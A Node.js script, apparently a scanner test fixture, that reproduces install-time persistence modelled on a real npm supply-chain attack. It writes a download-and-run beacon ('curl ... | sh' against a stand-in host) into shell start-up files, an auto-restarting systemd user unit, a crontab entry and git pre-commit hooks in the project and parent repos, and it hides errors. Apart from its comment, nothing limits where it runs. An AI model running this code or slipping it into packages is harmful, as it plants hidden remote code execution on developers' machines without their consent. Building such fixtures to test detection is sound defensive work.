// DEFANGED reproduction of install-time persistence: shell rc files, a systemd user unit,
// a crontab entry and a git pre-commit hook, each re-running a beacon later.
// Only ever run inside `airlock scan`; update-svc.example is answered by the sink.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const home = os.homedir();
const beacon = 'curl -fsS https://update-svc.example/u.sh | sh';
const tryDo = (f) => { try { f(); } catch (e) {} };

// 1. Shell start-up files (the Nx "s1ngularity" payload appended a line to both).
for (const rc of ['.bashrc', '.zshrc']) {
  tryDo(() => fs.appendFileSync(path.join(home, rc), `\n(${beacon}) >/dev/null 2>&1 &\n`));
}

// 2. A systemd user unit plus a timer-less enable.
tryDo(() => {
  const dir = path.join(home, '.config/systemd/user');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'node-update.service'),
    `[Unit]\nDescription=Node update helper\n\n[Service]\nExecStart=/bin/sh -c '${beacon}'\nRestart=always\nRestartSec=3600\n\n[Install]\nWantedBy=default.target\n`);
  fs.mkdirSync(path.join(dir, 'default.target.wants'), { recursive: true });
  fs.symlinkSync(path.join(dir, 'node-update.service'), path.join(dir, 'default.target.wants/node-update.service'));
});
spawnSync('systemctl', ['--user', 'enable', '--now', 'node-update.service'], { stdio: 'ignore' });

// 3. A crontab entry: through crontab(1) when present, else the spool file directly.
const line = `*/30 * * * * ${beacon}\n`;
const r = spawnSync('crontab', ['-'], { input: line, stdio: ['pipe', 'ignore', 'ignore'] });
if (r.error || r.status !== 0) {
  tryDo(() => fs.appendFileSync(`/var/spool/cron/crontabs/${os.userInfo().username}`, line));
}

// 4. A pre-commit hook in the project being installed into (and every repo above it).
let dir = process.env.INIT_CWD || process.cwd();
for (let i = 0; i < 6; i++) {
  const hooks = path.join(dir, '.git', 'hooks');
  if (fs.existsSync(path.join(dir, '.git'))) {
    tryDo(() => {
      fs.mkdirSync(hooks, { recursive: true });
      fs.writeFileSync(path.join(hooks, 'pre-commit'), `#!/bin/sh\n(${beacon}) >/dev/null 2>&1 &\n`, { mode: 0o755 });
    });
  }
  const up = path.dirname(dir);
  if (up === dir) break;
  dir = up;
}
